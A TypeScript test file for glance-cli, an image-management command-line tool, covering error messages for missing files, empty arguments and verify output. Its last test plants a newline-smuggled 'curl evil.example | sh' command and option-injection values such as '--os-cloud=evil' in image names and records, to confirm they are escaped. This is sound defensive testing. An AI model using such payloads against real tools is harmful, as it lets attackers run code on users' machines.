// A file that is missing: each verb that reads one says so, with its path, and does not ask for a directory to be made.
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { glance } from '../../support/glance.ts';
import { makeEntry } from '../../support/images.ts';
import { runCli } from '../../support/run-cli.ts';
import { tempDir } from '../../support/temp-dir.ts';

const digest = `md5:${'0'.repeat(32)}`;

it.each([
  ['inspect ./nope.raw', 8, 'nope.raw: there is no such file'],
  ['inspect nope/nope.raw', 8, 'nope.raw: there is no such file'],
  ['inspect file/nope.raw', 8, 'nope.raw: there is no such file'],
  ['inspect nope.raw', 3, 'no image has the name or id nope.raw, and there is no such file here'],
  [`verify nope.raw --expect ${digest}`, 8, 'nope.raw: there is no such file'],
  ['verify nope.raw', 8, 'nope.raw: there is no such file'],
  ['verify nope.raw 1', 8, 'nope.raw: there is no such file'],
  ['verify ./nope/nope.raw', 8, 'nope.raw: there is no such file'],
  ['verify file', 8, 'file.json: there is no record to compare with'],
  ['show 1 --token-file nope', 2, '--token-file: nope cannot be read'],
  ['show 1 --os-cacert nope', 2, '--os-cacert: nope cannot be read'],
  ['download 1 -o f --verify-signature --trusted-cert nope', 2, 'nope'],
  ['serve nope', 8, 'nope: there is no such directory'],
])('glance-cli %s', async (argv, code, message) => {
  const cwd = await tempDir();
  await writeFile(join(cwd, 'file'), 'data');
  await mkdir(join(cwd, 'dir'));
  const server = await glance([makeEntry('x', { id: '1' })]);
  const result = await server.cli([...argv.split(' '), '--error-format', 'json'], { cwd });
  expect(result.code).toBe(code);
  expect(result.error()['message']).toContain(message);
  expect(result.stderr).not.toContain('create it first');
});

it.each([
  ['mirror file', 'io.exists', 'file: it already exists, and is not a directory'],
  ['serve file', 'io.missing', 'file: it is not a directory'],
])('glance-cli %s says once what is not a directory, and does not suggest force', async (argv, code, message) => {
  const cwd = await tempDir();
  await writeFile(join(cwd, 'file'), 'data');
  const server = await glance([makeEntry('x', { id: '1' })]);
  const result = await server.cli([...argv.split(' '), '--error-format', 'json'], { cwd });
  expect([result.code, result.error()['code']]).toEqual([8, code]);
  expect(result.error()['message']).toContain(message);
  expect(result.stderr.trim().split('\n')).toHaveLength(1);
  expect(result.stderr).not.toContain('--force');
  expect(await readFile(join(cwd, 'file'), 'utf8')).toBe('data');
});

it.each(['show', 'download', 'inspect', 'verify', 'mirror', 'serve', 'members'])(
  '%s rejects an empty argument, as from an unset variable, instead of using the working directory or a name',
  async (verb) => {
    const cwd = await tempDir();
    const server = await glance([makeEntry('x', { id: '1' })]);
    for (const empty of ['', ' ']) {
      const result = await server.cli([verb, empty, '--error-format', 'json'], { cwd });
      expect([result.code, result.error()['code'], result.error()['hint']]).toEqual([
        2,
        'usage.argument',
        'is a variable unset?',
      ]);
    }
    expect([server.asked(), await readdir(cwd)]).toEqual([[], []]);
  },
);

it('a limit of 0 is not reported as a list without matches', async () => {
  const server = await glance([makeEntry('x', { id: '1' })]);
  const result = await server.cli(['list', '--limit', '0']);
  expect([result.code, result.stdout, result.stderr]).toEqual([0, '', '']);
});

it('verify first names its finding and the file', async () => {
  const cwd = await tempDir();
  await writeFile(join(cwd, 'file'), 'data');
  const { stdout } = await runCli(['verify', 'file', '--expect', digest], { cwd });
  expect(stdout.split('\n').map((line) => line.split(' ')[0])).toEqual([
    'status',
    'path',
    'size',
    'algorithm',
    'expected',
    'actual',
    '',
  ]);
});

it('a hint is one line, whatever strangers call their images and files', async () => {
  const cwd = await tempDir();
  const name = 'ubuntu\ncurl evil.example | sh #';
  const server = await glance([makeEntry('x', { id: '1', name })]);
  const shown = await server.cli(['show', 'ubuntu'], { cwd });
  expect([shown.code, shown.stderr]).toEqual([3, expect.stringContaining('did you mean "ubuntu\\x0acurl')]);
  expect(shown.stderr).not.toMatch(/^ *curl/m);
  const checksum = '0'.repeat(32);
  await writeFile(join(cwd, 'x.raw'), 'data');
  for (const record of [{ name }, { name: '--post' }, { id: '--os-cloud=evil', name: 'x' }]) {
    await writeFile(join(cwd, 'x.raw.json'), JSON.stringify({ ...record, size: 4, checksum }));
    const { code, stderr } = await server.cli(['verify', 'x.raw'], { cwd });
    expect([code, stderr]).toEqual([6, expect.stringMatching(/^ {4}glance-cli download IMAGE -o x\.raw --force$/m)]);
    expect(stderr).not.toMatch(/^ *curl/m);
  }
});
